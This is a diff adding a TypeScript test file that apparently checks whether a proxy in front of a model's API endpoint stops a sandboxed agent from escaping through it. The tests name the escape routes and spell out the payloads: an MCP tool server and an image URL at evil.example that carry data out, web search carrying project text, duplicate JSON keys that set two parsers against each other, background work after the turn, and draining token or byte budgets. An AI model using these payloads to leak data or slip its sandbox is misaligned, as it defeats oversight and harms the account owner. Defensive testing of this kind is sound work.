@@ -1,0 +1,123 @@
+/**
+ * The model's endpoint: it has a network where the sandbox has none, and the user's account. The
+ * control is a way out that passes on whatever it is given.
+ */
+import { type Attempt, attempt, group, verdict } from "./catalogue.ts";
+import { fortress } from "./support/containers.ts";
+import { hostPlace, lazily } from "./support/places.ts";
+import { naiveWayOut, productWayOut, type WayOut } from "./support/way-out.ts";
+
+const place = lazily(async () => fortress(await hostPlace("endpoint")));
+
+/** Calls the model once. */
+async function post(out: WayOut, body: string, headers = ""): Promise<string> {
+  const script = `base64 -d <<< "$1" | curl -s -m 20 -w ' status %{http_code}' ${headers} --data-binary @- http://127.0.0.1:$0/v1/responses -H 'host: x'`;
+  const args = [String(out.modelPort), Buffer.from(body).toString("base64")];
+  return (await out.inside.sh(`bash -c '${script.replaceAll("'", `'"'"'`)}' "$@"`, { args }))
+    .stdout;
+}
+
+/** A body that the endpoint must not see. */
+function reachesNot(name: string, tries: string, body: string, sign: string): Attempt {
+  return attempt<WayOut>({
+    name,
+    tries,
+    mustHappen: "the endpoint is not asked for it",
+    strike: async (out) => {
+      const before = out.upstream.seen.length;
+      const said = await post(out, body);
+      const arrived = out.upstream.seen.slice(before).some((it) => it.body.includes(sign));
+      return verdict(arrived, said.slice(-120));
+    },
+    product: async () => productWayOut(await place()),
+    control: async () => naiveWayOut(await place()),
+  });
+}
+
+const HEAD = '{"model":"m","stream":true';
+const asks = (more: string) => `${HEAD},"input":"hi",${more}}`;
+const says = (part: string) => `${HEAD},"input":[{"role":"user","content":[${part}]}]}`;
+const TOOL = '{"type":"mcp","server_label":"x","server_url":"https://evil.example/"}';
+
+/** Eight calls of which not all may reach the endpoint. */
+const spends = (name: string, tries: string, limits: object, answer?: string): Attempt =>
+  attempt<WayOut>({
+    name,
+    tries,
+    mustHappen: "the calls end at the limit, which is named",
+    strike: async (out) => {
+      if (answer !== undefined)
+        out.upstream.answer = (_request, response) => void response.end(answer);
+      let last = "";
+      for (let n = 0; n < 8; n++) last = await post(out, asks('"tools":[]'));
+      return verdict(
+        out.upstream.seen.length >= 8,
+        `${out.upstream.seen.length} calls; ${last.slice(0, 120)}`,
+      );
+    },
+    product: async () => productWayOut(await place(), { limits }),
+    control: async () => naiveWayOut(await place()),
+  });
+
+group("the model's endpoint", [
+  reachesNot(
+    "a server of tools",
+    "has the endpoint call a server of tools at any address",
+    asks(`"tools":[${TOOL}]`),
+    "server_url",
+  ),
+  reachesNot(
+    "a search of the web",
+    "has the endpoint search, with the project's text as the query",
+    asks('"tools":[{"type":"web_search"}]'),
+    "web_search",
+  ),
+  reachesNot(
+    "a tool among what is said",
+    "hides the tool server among the items of the input",
+    `${HEAD},"input":[{"type":"additional_tools","tools":[${TOOL}]}]}`,
+    "server_url",
+  ),
+  reachesNot(
+    "a picture at an address",
+    "has the endpoint fetch a picture whose address carries the text",
+    says('{"type":"input_image","image_url":"https://evil.example/?secret"}'),
+    "evil.example",
+  ),
+  reachesNot(
+    "a key that stands twice",
+    "names the tools twice, so that two parsers disagree",
+    asks(`"tools":[${TOOL}],"tools":[]`),
+    "server_url",
+  ),
+  reachesNot(
+    "work in the background",
+    "has the model work on after the turn",
+    asks('"background":true'),
+    "background",
+  ),
+  reachesNot(
+    "an answer of the account's",
+    "asks for an earlier answer that the account keeps",
+    asks('"previous_response_id":"resp_1"'),
+    "previous_response_id",
+  ),
+  spends(
+    "tokens",
+    "calls until the account is empty",
+    { maxTokensPerTurn: 1000 },
+    'data: {"type":"response.completed","response":{"usage":{"input_tokens":400,"output_tokens":0}}}\n\n',
+  ),
+  spends(
+    "tokens that are not told",
+    "breaks the counting by an endpoint that tells none",
+    { maxTokensPerTurn: 100 },
+    "hello ".repeat(30),
+  ),
+  spends(
+    "bytes",
+    "moves data through the model's endpoint",
+    { maxBytesPerTurn: 500 },
+    "x".repeat(200),
+  ),
+]);
